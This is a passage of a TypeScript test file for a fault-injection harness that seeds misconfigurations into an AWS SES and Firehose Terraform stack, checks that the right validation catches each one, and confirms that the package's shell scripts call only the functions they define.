  it("drop the SES role's source conditions", () => {
    expect(JSON.parse(sesRole(stack).assume_role_policy).Statement[0].Condition).toBeDefined();
    expect(JSON.parse(sesRole(seed("ses-trust-without-conditions", stack)).assume_role_policy).Statement[0].Condition).toBeUndefined();
  });

  it("disable the event destination, or point it at the delivery role", () => {
    expect(resources(seed("disabled-destination", stack), "aws_sesv2_configuration_set_event_destination")[0].event_destination.enabled).toBe(false);
    const wrong = resources(seed("destination-names-wrong-role", stack), "aws_sesv2_configuration_set_event_destination")[0];
    expect(wrong.event_destination.kinesis_firehose_destination.iam_role_arn).toMatch(/^\$\{aws_iam_role\.SesEvents_DeliveryRole_/);
  });

  it("partition by the sender, and move the table's location", () => {
    const stream = resources(seed("events-partitioned-by-wrong-field", stack), "aws_kinesis_firehose_delivery_stream")[0];
    expect(JSON.stringify(stream.extended_s3_configuration.processing_configuration)).toContain('"parameter_value":"{event_type: .mail.source}"');
    const table = resources(seed("table-reads-wrong-prefix", stack), "aws_glue_catalog_table").find((t: { name: string }) => t.name === "events");
    expect(table.parameters["storage.location.template"]).toMatch(/^s3:\/\/\$\{aws_s3_bucket\.\w+\.bucket\}\/events-parquet-moved\/event_type=/);
  });

  it("refuse an unknown name, or a stack without what the fault edits", () => {
    expect(() => seed("no-such-fault", stack)).toThrow('faults: no fault named "no-such-fault"');
    expect(() => seed("disabled-destination", { resource: {} })).toThrow("faults: expected one aws_sesv2_configuration_set_event_destination in the stack, found 0");
  });

  it("count as caught only by the check they name, with its first complaint", () => {
    const flow = (failedChecks: string[], problems: string[], unexpected: string[] = []) => ({ failedChecks, eventFlow: { problems }, iam: { unexpected } });
    expect(verdict("disabled-destination", flow(["ses"], ["ses: no enabled event destination of configuration set ses-events matches SEND"]), true)).toEqual({
      name: "disabled-destination",
      caught: true,
      by: "ses: no enabled event destination of configuration set ses-events matches SEND",
    });
    expect(verdict("ses-trust-without-conditions", flow(["iam"], [], ["SES role sts:AssumeRole by SES with no source context: allowed, expected denied"]), true).by).toBe(
      "iam: SES role sts:AssumeRole by SES with no source context: allowed, expected denied",
    );
    expect(verdict("disabled-destination", flow(["events"], ["events: x"]), true)).toEqual({
      name: "disabled-destination",
      caught: false,
      by: "not caught by ses (failed: events)",
    });
    expect(verdict("table-reads-wrong-prefix", flow([], []), false).caught).toBe(true);
    expect(verdict("table-reads-wrong-prefix", undefined, true)).toEqual({ name: "table-reads-wrong-prefix", caught: false, by: "not caught by queries (failed: event-flow)" });
  });
});

describe("the check's shell scripts", () => {
  const files = ["packages/terraform-check/terraform-check.sh", ...["isolation.sh", "mock.sh", "organization.sh", "provider.sh", "stack.sh", "terraform-build.sh", "prebuild.sh", "unit-tests.sh"].map((f) => `packages/terraform-check/${f}`)];
  const text = files.map((f) => readFileSync(path.join(ROOT, f), "utf8")).join("\n");

  it("call only functions they define", () => {
    const defined = new Set([...text.matchAll(/^([a-z_]+)\(\) \{/gm)].map((m) => m[1]));
    const variables = new Set([...text.matchAll(/\b([a-z_]+)=/g)].map((m) => m[1]));
    // A command word with an underscore (function names do, commands and keywords do not), not a
    // variable in arithmetic nor a block of the Terraform CLI configuration written by a heredoc.
    const called = new Set(
      [...text.matchAll(/(?:^\s*|&& |\|\| |\$\(|; |then |do |! )([a-z]+_[a-z_]+)(?=\s|$|\))(?! \{)/gm)].map((m) => m[1]).filter((name) => !variables.has(name)),
    );
    expect(called.size).toBeGreaterThan(20);
    expect([...called].filter((name) => !defined.has(name)).sort()).toEqual([]);
  });
});
